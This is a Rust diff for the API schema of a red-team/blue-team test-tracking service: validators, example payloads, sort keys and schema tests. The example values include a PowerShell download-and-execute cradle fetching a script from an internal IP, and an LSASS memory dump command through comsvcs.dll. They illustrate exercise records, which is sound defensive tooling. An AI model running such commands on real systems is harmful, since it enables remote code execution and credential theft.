@@ -3,27 +3,27 @@
 use std::collections::{BTreeMap, HashMap};
 
 use aegis_core::time::Timestamp;
-use poem_openapi::Object;
-use poem_openapi::types::MaybeUndefined;
+use poem_openapi::types::{Example, MaybeUndefined};
+use poem_openapi::{Enum, Object};
 use serde_json::Value;
 
 use crate::evidence_repo::EvidenceRecord;
 use crate::model::{
-    AttackOutcome, Change, DetectionOutcome, TestPatch, TestRecord, TransitionRecord,
+    AttackOutcome, DetectionOutcome, TechniqueDomain, TestPatch, TestRecord, TestSort,
+    TransitionRecord,
 };
+use crate::schema::{Nullable, StorableTime};
 use crate::template::{ImportReport, InputArgument, TemplatePatch, TemplateRecord};
 use crate::workflow::{Side, TestState};
 
-pub fn change<T>(value: MaybeUndefined<T>) -> Change<T> {
-    match value {
-        MaybeUndefined::Undefined => None,
-        MaybeUndefined::Null => Some(None),
-        MaybeUndefined::Value(v) => Some(Some(v)),
-    }
-}
+// A name holds at least one character that is not white space: the class
+// below is Rust's `White_Space` (what `trim` drops), spelled out because `\s`
+// means a different set to Rust, JavaScript and Python, with U+2000–U+205F
+// taken whole so no generator meets a raw U+2028 (a JavaScript line break).
 
 /// The technique a test points at, as the catalog has it now.
 #[derive(Debug, Object)]
+#[oai(skip_serializing_if_is_none)]
 pub struct TechniqueRefView {
     pub domain: String,
     pub attack_id: String,
@@ -61,12 +61,16 @@ impl From<TransitionRecord> for TransitionView {
     }
 }
 
+/// A test: its plan, the red half (what was done) and the blue half (what
+/// was seen). A field without a value is absent, never `null`.
 #[derive(Debug, Object)]
+#[oai(skip_serializing_if_is_none)]
 pub struct TestView {
     pub id: String,
     pub name: String,
     pub technique: TechniqueRefView,
     pub campaign_id: Option<String>,
+    /// The template the test was made from.
     pub template_id: Option<String>,
     pub procedure: String,
     pub platform: Option<String>,
@@ -89,7 +93,6 @@ pub struct TestView {
     pub updated_at: Timestamp,
     pub updated_by: String,
     /// Every transition with who and when (on single-test answers).
-    #[oai(skip_serializing_if_is_none)]
     pub transitions: Option<Vec<TransitionView>>,
 }
 
@@ -150,30 +153,80 @@ impl TestView {
 
 /// A new test. It starts as a draft; the blue half is filled once blue evaluates.
 #[derive(Debug, Object)]
-#[oai(deny_unknown_fields)]
+// Skipping absent fields only shapes the example, which sets a few.
+#[oai(deny_unknown_fields, example, skip_serializing_if_is_none)]
 pub struct NewTestInput {
+    /// Leading and trailing spaces are dropped.
+    #[oai(validator(
+        min_length = 1,
+        max_length = 200,
+        pattern = r"[^\t-\r \x85\xa0\u1680\u2000-\u205f\u3000]"
+    ))]
     pub name: String,
-    /// ATT&CK id from the catalog, e.g. `T1059.001`.
+    /// ATT&CK id from the catalog, e.g. `T1059.001`; it must be in the
+    /// catalog, neither revoked nor deprecated.
+    #[oai(validator(pattern = r"^[Tt][0-9]{4}(\.[0-9]{3})?$"))]
     pub technique_id: String,
-    /// `enterprise-attack` (default), `mobile-attack` or `ics-attack`.
-    pub technique_domain: Option<String>,
+    pub technique_domain: Option<TechniqueDomain>,
+    /// An existing campaign that is not completed.
+    #[oai(validator(
+        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
+    ))]
     pub campaign_id: Option<String>,
+    #[oai(validator(max_length = 65536))]
     pub procedure: Option<String>,
+    #[oai(validator(max_length = 255))]
     pub platform: Option<String>,
+    #[oai(validator(max_length = 255))]
     pub target_host: Option<String>,
+    /// An active user; a red tech's test is theirs when left out.
+    #[oai(validator(
+        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
+    ))]
     pub red_assignee_id: Option<String>,
+    /// An active user.
+    #[oai(validator(
+        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
+    ))]
     pub blue_assignee_id: Option<String>,
+    /// Stored lower-case, sorted, without duplicates.
+    #[oai(validator(
+        max_items = 32,
+        max_length = 64,
+        pattern = r"^ *[A-Za-z0-9_.:/-][A-Za-z0-9 _.:/-]*$"
+    ))]
     pub tags: Option<Vec<String>>,
-    pub executed_at: Option<Timestamp>,
+    pub executed_at: Option<StorableTime>,
     pub attack_outcome: Option<AttackOutcome>,
+    #[oai(validator(max_length = 65536))]
     pub red_notes: Option<String>,
+}
+
+impl Example for NewTestInput {
+    fn example() -> Self {
+        Self {
+            name: "PowerShell download cradle".into(),
+            technique_id: "T1059.001".into(),
+            technique_domain: None,
+            campaign_id: None,
+            procedure: Some("powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\"".into()),
+            platform: Some("windows".into()),
+            target_host: Some("ws-042.corp.example".into()),
+            red_assignee_id: None,
+            blue_assignee_id: None,
+            tags: Some(vec!["execution".into(), "q2-exercise".into()]),
+            executed_at: None,
+            attack_outcome: None,
+            red_notes: None,
+        }
+    }
 }
 
 impl From<NewTestInput> for TestPatch {
     fn from(i: NewTestInput) -> Self {
         TestPatch {
             name: Some(i.name),
-            technique_domain: i.technique_domain,
+            technique_domain: i.technique_domain.map(|d| d.as_str().to_owned()),
             technique_id: Some(i.technique_id),
             campaign_id: i.campaign_id.map(Some),
             procedure: i.procedure,
@@ -182,7 +235,7 @@ impl From<NewTestInput> for TestPatch {
             red_assignee_id: i.red_assignee_id.map(Some),
             blue_assignee_id: i.blue_assignee_id.map(Some),
             tags: i.tags,
-            executed_at: i.executed_at.map(Some),
+            executed_at: i.executed_at.map(|t| Some(t.0)),
             attack_outcome: i.attack_outcome.map(Some),
             red_notes: i.red_notes,
             ..TestPatch::default()
@@ -190,51 +243,111 @@ impl From<NewTestInput> for TestPatch {
     }
 }
 
-/// A partial change. Plan and red fields are for red techs, leads and admins;
-/// blue fields for blue techs, leads and admins. `null` clears a field.
+/// A partial change: a field left out stays as it is, `null` clears it.
+/// Plan and red fields are for red techs, leads and admins; blue fields for
+/// blue techs, leads and admins; each group only while the test's state
+/// leaves it open (409 `fields_locked` otherwise).
 #[derive(Debug, Object)]
-#[oai(deny_unknown_fields)]
+// Skipping absent fields only shapes the example, which sets a few.
+#[oai(deny_unknown_fields, example, skip_serializing_if_is_none)]
 pub struct TestPatchInput {
-    /// The version you edited, unless sent as `If-Match`.
+    /// The version you edited, unless sent as `If-Match` (they must agree
+    /// when both are sent).
     pub version: Option<i64>,
+    #[oai(validator(
+        min_length = 1,
+        max_length = 200,
+        pattern = r"[^\t-\r \x85\xa0\u1680\u2000-\u205f\u3000]"
+    ))]
     pub name: Option<String>,
-    pub technique_domain: Option<String>,
+    pub technique_domain: Option<TechniqueDomain>,
+    #[oai(validator(pattern = r"^[Tt][0-9]{4}(\.[0-9]{3})?$"))]
     pub technique_id: Option<String>,
-    pub campaign_id: MaybeUndefined<String>,
+    #[oai(validator(
+        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
+    ))]
+    pub campaign_id: Nullable<String>,
+    #[oai(validator(max_length = 65536))]
     pub procedure: Option<String>,
-    pub platform: MaybeUndefined<String>,
-    pub target_host: MaybeUndefined<String>,
-    pub red_assignee_id: MaybeUndefined<String>,
-    pub blue_assignee_id: MaybeUndefined<String>,
+    #[oai(validator(max_length = 255))]
+    pub platform: Nullable<String>,
+    #[oai(validator(max_length = 255))]
+    pub target_host: Nullable<String>,
+    #[oai(validator(
+        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
+    ))]
+    pub red_assignee_id: Nullable<String>,
+    #[oai(validator(
+        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
+    ))]
+    pub blue_assignee_id: Nullable<String>,
+    #[oai(validator(
+        max_items = 32,
+        max_length = 64,
+        pattern = r"^ *[A-Za-z0-9_.:/-][A-Za-z0-9 _.:/-]*$"
+    ))]
     pub tags: Option<Vec<String>>,
-    pub executed_at: MaybeUndefined<Timestamp>,
-    pub attack_outcome: MaybeUndefined<AttackOutcome>,
+    pub executed_at: Nullable<StorableTime>,
+    pub attack_outcome: Nullable<AttackOutcome>,
+    #[oai(validator(max_length = 65536))]
     pub red_notes: Option<String>,
-    pub detection_outcome: MaybeUndefined<DetectionOutcome>,
-    pub detected_at: MaybeUndefined<Timestamp>,
-    pub detection_source: MaybeUndefined<String>,
+    pub detection_outcome: Nullable<DetectionOutcome>,
+    /// Not before `executed_at`.
+    pub detected_at: Nullable<StorableTime>,
+    #[oai(validator(max_length = 255))]
+    pub detection_source: Nullable<String>,
+    #[oai(validator(max_length = 65536))]
     pub blue_notes: Option<String>,
+}
+
+impl Example for TestPatchInput {
+    fn example() -> Self {
+        Self {
+            version: None,
+            name: None,
+            technique_domain: None,
+            technique_id: None,
+            campaign_id: Nullable::default(),
+            procedure: None,
+            platform: Nullable::default(),
+            target_host: Nullable::default(),
+            red_assignee_id: Nullable::default(),
+            blue_assignee_id: Nullable::default(),
+            tags: None,
+            executed_at: Nullable(MaybeUndefined::Value(StorableTime(
+                chrono::DateTime::parse_from_rfc3339("2026-03-02T10:15:00Z")
+                    .map(|t| t.to_utc())
+                    .unwrap_or_default(),
+            ))),
+            attack_outcome: Nullable(MaybeUndefined::Value(AttackOutcome::Succeeded)),
+            red_notes: Some("Ran from an unprivileged session; the script was fetched.".into()),
+            detection_outcome: Nullable::default(),
+            detected_at: Nullable::default(),
+            detection_source: Nullable::default(),
+            blue_notes: None,
+        }
+    }
 }
 
 impl From<TestPatchInput> for TestPatch {
     fn from(i: TestPatchInput) -> Self {
         TestPatch {
             name: i.name,
-            technique_domain: i.technique_domain,
+            technique_domain: i.technique_domain.map(|d| d.as_str().to_owned()),
             technique_id: i.technique_id,
-            campaign_id: change(i.campaign_id),
+            campaign_id: i.campaign_id.change(),
             procedure: i.procedure,
-            platform: change(i.platform),
-            target_host: change(i.target_host),
-            red_assignee_id: change(i.red_assignee_id),
-            blue_assignee_id: change(i.blue_assignee_id),
+            platform: i.platform.change(),
+            target_host: i.target_host.change(),
+            red_assignee_id: i.red_assignee_id.change(),
+            blue_assignee_id: i.blue_assignee_id.change(),
             tags: i.tags,
-            executed_at: change(i.executed_at),
-            attack_outcome: change(i.attack_outcome),
+            executed_at: i.executed_at.change().map(|t| t.map(|t| t.0)),
+            attack_outcome: i.attack_outcome.change(),
             red_notes: i.red_notes,
-            detection_outcome: change(i.detection_outcome),
-            detected_at: change(i.detected_at),
-            detection_source: change(i.detection_source),
+            detection_outcome: i.detection_outcome.change(),
+            detected_at: i.detected_at.change().map(|t| t.map(|t| t.0)),
+            detection_source: i.detection_source.change(),
             blue_notes: i.blue_notes,
         }
     }
@@ -257,6 +370,7 @@ pub struct FieldChangeView {
 
 /// One recorded change: an edit (with its fields), a transition or an evidence change.
 #[derive(Debug, Object)]
+#[oai(skip_serializing_if_is_none)]
 pub struct HistoryEntry {
     pub id: String,
     pub at: Timestamp,
@@ -313,7 +427,9 @@ impl From<EvidenceRecord> for EvidenceView {
     }
 }
 
+/// One `#{argument}` of a template's command.
 #[derive(Debug, Clone, Object)]
+#[oai(deny_unknown_fields)]
 pub struct InputArgumentView {
     #[oai(default)]
     pub description: String,
@@ -348,7 +464,9 @@ impl From<InputArgumentView> for InputArgument {
     }
 }
 
+/// A reusable procedure. A field without a value is absent, never `null`.
 #[derive(Debug, Object)]
+#[oai(skip_serializing_if_is_none)]
 pub struct TemplateView {
     pub id: String,
     pub name: String,
@@ -403,32 +521,125 @@ impl From<TemplateRecord> for TemplateView {
     }
 }
 
+/// A template written by hand.
 #[derive(Debug, Object)]
-#[oai(deny_unknown_fields)]
-pub struct TemplateInput {
-    /// The version you edited (updates only), unless sent as `If-Match`.
-    pub version: Option<i64>,
-    pub name: Option<String>,
+// Skipping absent fields only shapes the example, which sets a few.
+#[oai(deny_unknown_fields, example, skip_serializing_if_is_none)]
+pub struct NewTemplateInput {
+    #[oai(validator(
+        min_length = 1,
+        max_length = 200,
+        pattern = r"[^\t-\r \x85\xa0\u1680\u2000-\u205f\u3000]"
+    ))]
+    pub name: String,
+    #[oai(validator(max_length = 65536))]
     pub description: Option<String>,
-    pub technique_id: Option<String>,
+    /// ATT&CK id from the catalog, e.g. `T1003.001`.
+    #[oai(validator(pattern = r"^[Tt][0-9]{4}(\.[0-9]{3})?$"))]
+    pub technique_id: String,
+    /// Stored lower-case, sorted, without duplicates.
+    #[oai(validator(max_items = 16, max_length = 64))]
     pub platforms: Option<Vec<String>>,
-    pub executor: MaybeUndefined<String>,
+    /// `command_prompt`, `powershell`, `sh`, `bash`, `manual`...
+    #[oai(validator(max_length = 255))]
+    pub executor: Option<String>,
+    /// The procedure, with `#{argument}` placeholders.
+    #[oai(validator(max_length = 65536))]
     pub command: Option<String>,
-    pub cleanup_command: MaybeUndefined<String>,
+    #[oai(validator(max_length = 65536))]
+    pub cleanup_command: Option<String>,
     pub elevation_required: Option<bool>,
+    /// Named with letters, digits, `-` and `_` (at most 64 characters).
+    #[oai(validator(max_properties = 64))]
     pub input_arguments: Option<BTreeMap<String, InputArgumentView>>,
 }
 
-impl From<TemplateInput> for TemplatePatch {
-    fn from(i: TemplateInput) -> Self {
+impl Example for NewTemplateInput {
+    fn example() -> Self {
+        Self {
+            name: "Dump LSASS with comsvcs.dll".into(),
+            description: Some("MiniDump of lsass.exe through rundll32.".into()),
+            technique_id: "T1003.001".into(),
+            platforms: Some(vec!["windows".into()]),
+            executor: Some("powershell".into()),
+            command: Some(
+                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).id #{output_file} full"
+                    .into(),
+            ),
+            cleanup_command: Some("Remove-Item #{output_file}".into()),
+            elevation_required: Some(true),
+            input_arguments: Some(BTreeMap::from([(
+                "output_file".to_owned(),
+                InputArgumentView {
+                    description: "Where the dump is written".into(),
+                    kind: "path".into(),
+                    default: "C:\\Windows\\Temp\\lsass.dmp".into(),
+                },
+            )])),
+        }
+    }
+}
+
+impl From<NewTemplateInput> for TemplatePatch {
+    fn from(i: NewTemplateInput) -> Self {
+        TemplatePatch {
+            name: Some(i.name),
+            description: i.description,
+            technique_id: Some(i.technique_id),
+            platforms: i.platforms,
+            executor: i.executor.map(Some),
+            command: i.command,
+            cleanup_command: i.cleanup_command.map(Some),
+            elevation_required: i.elevation_required,
+            input_arguments: i
+                .input_arguments
+                .map(|m| m.into_iter().map(|(k, v)| (k, v.into())).collect()),
+        }
+    }
+}
+
+/// A partial change to a template: a field left out stays as it is, `null`
+/// clears it.
+#[derive(Debug, Object)]
+#[oai(deny_unknown_fields)]
+pub struct TemplatePatchInput {
+    /// The version you edited, unless sent as `If-Match` (they must agree
+    /// when both are sent).
+    pub version: Option<i64>,
+    #[oai(validator(
+        min_length = 1,
+        max_length = 200,
+        pattern = r"[^\t-\r \x85\xa0\u1680\u2000-\u205f\u3000]"
+    ))]
+    pub name: Option<String>,
+    #[oai(validator(max_length = 65536))]
+    pub description: Option<String>,
+    #[oai(validator(pattern = r"^[Tt][0-9]{4}(\.[0-9]{3})?$"))]
+    pub technique_id: Option<String>,
+    #[oai(validator(max_items = 16, max_length = 64))]
+    pub platforms: Option<Vec<String>>,
+    #[oai(validator(max_length = 255))]
+    pub executor: Nullable<String>,
+    #[oai(validator(max_length = 65536))]
+    pub command: Option<String>,
+    #[oai(validator(max_length = 65536))]
+    pub cleanup_command: Nullable<String>,
+    pub elevation_required: Option<bool>,
+    /// The whole set: arguments left out are removed.
+    #[oai(validator(max_properties = 64))]
+    pub input_arguments: Option<BTreeMap<String, InputArgumentView>>,
+}
+
+impl From<TemplatePatchInput> for TemplatePatch {
+    fn from(i: TemplatePatchInput) -> Self {
         TemplatePatch {
             name: i.name,
             description: i.description,
             technique_id: i.technique_id,
             platforms: i.platforms,
-            executor: change(i.executor),
+            executor: i.executor.change(),
             command: i.command,
-            cleanup_command: change(i.cleanup_command),
+            cleanup_command: i.cleanup_command.change(),
             elevation_required: i.elevation_required,
             input_arguments: i
                 .input_arguments
@@ -447,25 +658,70 @@ pub struct TemplatePage {
 
 /// A test from a template: its technique and command come from the template.
 #[derive(Debug, Object)]
-#[oai(deny_unknown_fields)]
+// Skipping absent fields only shapes the example, which sets a few.
+#[oai(deny_unknown_fields, example, skip_serializing_if_is_none)]
 pub struct FromTemplateInput {
     /// Defaults to the template's name.
+    #[oai(validator(
+        min_length = 1,
+        max_length = 200,
+        pattern = r"[^\t-\r \x85\xa0\u1680\u2000-\u205f\u3000]"
+    ))]
     pub name: Option<String>,
-    /// Values for the template's input arguments; the rest keep their defaults.
+    /// Values for the template's input arguments (only those it has); the
+    /// rest keep their defaults.
     #[oai(default)]
     pub arguments: HashMap<String, String>,
+    /// An existing campaign that is not completed.
+    #[oai(validator(
+        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
+    ))]
     pub campaign_id: Option<String>,
     /// Defaults to the template's platform when it has exactly one.
+    #[oai(validator(max_length = 255))]
     pub platform: Option<String>,
+    #[oai(validator(max_length = 255))]
     pub target_host: Option<String>,
+    /// An active user.
+    #[oai(validator(
+        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
+    ))]
     pub red_assignee_id: Option<String>,
+    /// An active user.
+    #[oai(validator(
+        pattern = r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$"
+    ))]
     pub blue_assignee_id: Option<String>,
+    /// Stored lower-case, sorted, without duplicates.
+    #[oai(validator(
+        max_items = 32,
+        max_length = 64,
+        pattern = r"^ *[A-Za-z0-9_.:/-][A-Za-z0-9 _.:/-]*$"
+    ))]
     pub tags: Option<Vec<String>>,
 }
 
+impl Example for FromTemplateInput {
+    fn example() -> Self {
+        // No `arguments`: their names are each template's own.
+        Self {
+            name: Some("LSASS dump on the finance jump host".into()),
+            arguments: HashMap::new(),
+            campaign_id: None,
+            platform: None,
+            target_host: Some("jump-fin-01.corp.example".into()),
+            red_assignee_id: None,
+            blue_assignee_id: None,
+            tags: Some(vec!["credential-access".into()]),
+        }
+    }
+}
+
 #[derive(Debug, Object)]
+#[oai(skip_serializing_if_is_none)]
 pub struct ImportProblemView {
     pub file: String,
+    /// The atomic test's name, when the problem is one test of the file.
     pub test: Option<String>,
     pub reason: String,
 }
@@ -499,5 +755,124 @@ impl From<ImportReport> for ImportReportView {
                 })
                 .collect(),
         }
+    }
+}
+
+/// The order of a test list: a column, with a leading `-` for descending.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Enum)]
+pub enum TestSortKey {
+    #[oai(rename = "name")]
+    Name,
+    #[oai(rename = "-name")]
+    NameDesc,
+    #[oai(rename = "created_at")]
+    CreatedAt,
+    #[oai(rename = "-created_at")]
+    CreatedAtDesc,
+    #[oai(rename = "updated_at")]
+    UpdatedAt,
+    #[oai(rename = "-updated_at")]
+    UpdatedAtDesc,
+    #[oai(rename = "executed_at")]
+    ExecutedAt,
+    #[oai(rename = "-executed_at")]
+    ExecutedAtDesc,
+    #[oai(rename = "state")]
+    State,
+    #[oai(rename = "-state")]
+    StateDesc,
+    #[oai(rename = "technique_id")]
+    TechniqueId,
+    #[oai(rename = "-technique_id")]
+    TechniqueIdDesc,
+}
+
+impl From<TestSortKey> for TestSort {
+    fn from(key: TestSortKey) -> Self {
+        use TestSortKey::*;
+        let (column, descending) = match key {
+            Name => ("name", false),
+            NameDesc => ("name", true),
+            CreatedAt => ("created_at", false),
+            CreatedAtDesc => ("created_at", true),
+            UpdatedAt => ("updated_at", false),
+            UpdatedAtDesc => ("updated_at", true),
+            ExecutedAt => ("executed_at", false),
+            ExecutedAtDesc => ("executed_at", true),
+            State => ("state", false),
+            StateDesc => ("state", true),
+            TechniqueId => ("technique_id", false),
+            TechniqueIdDesc => ("technique_id", true),
+        };
+        TestSort { column, descending }
+    }
+}
+
+/// An attack outcome (`succeeded`, `failed`, `blocked`) or a detection
+/// outcome (`prevented`, `alerted`, `logged`, `not_detected`): the two sets
+/// do not overlap, so one filter takes both.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Enum)]
+#[oai(rename_all = "snake_case")]
+pub enum OutcomeFilter {
+    Succeeded,
+    Failed,
+    Blocked,
+    Prevented,
+    Alerted,
+    Logged,
+    NotDetected,
+}
+
+impl OutcomeFilter {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::Succeeded => AttackOutcome::Succeeded.as_str(),
+            Self::Failed => AttackOutcome::Failed.as_str(),
+            Self::Blocked => AttackOutcome::Blocked.as_str(),
+            Self::Prevented => DetectionOutcome::Prevented.as_str(),
+            Self::Alerted => DetectionOutcome::Alerted.as_str(),
+            Self::Logged => DetectionOutcome::Logged.as_str(),
+            Self::NotDetected => DetectionOutcome::NotDetected.as_str(),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use poem_openapi::registry::{MetaSchemaRef, Registry};
+    use poem_openapi::types::{ParseFromParameter, Type};
+
+    #[test]
+    fn every_sort_key_is_a_column_the_repository_knows() {
+        let mut registry = Registry::new();
+        TestSortKey::register(&mut registry);
+        let names = &registry.schemas["TestSortKey"].enum_items;
+        assert_eq!(names.len(), 2 * TestSort::KEYS.len());
+        for name in names {
+            let name = name.as_str().unwrap();
+            let sort = TestSort::from(TestSortKey::parse_from_parameter(name).unwrap());
+            assert_eq!(TestSort::parse(name), Some(sort), "{name}");
+        }
+    }
+
+    /// The limits the document shows are the ones the service enforces.
+    #[test]
+    fn documented_lengths_are_the_enforced_ones() {
+        let mut registry = Registry::new();
+        NewTestInput::register(&mut registry);
+        let schema = &registry.schemas["NewTestInput"];
+        let max = |field: &str| {
+            let (_, MetaSchemaRef::Inline(s)) =
+                schema.properties.iter().find(|(n, _)| *n == field).unwrap()
+            else {
+                panic!("{field} is inline")
+            };
+            s.max_length.or(s.max_items)
+        };
+        assert_eq!(max("name"), Some(crate::service::MAX_NAME));
+        assert_eq!(max("procedure"), Some(crate::service::MAX_TEXT));
+        assert_eq!(max("platform"), Some(crate::service::MAX_SHORT));
+        assert_eq!(max("tags"), Some(crate::service::MAX_TAGS));
     }
 }
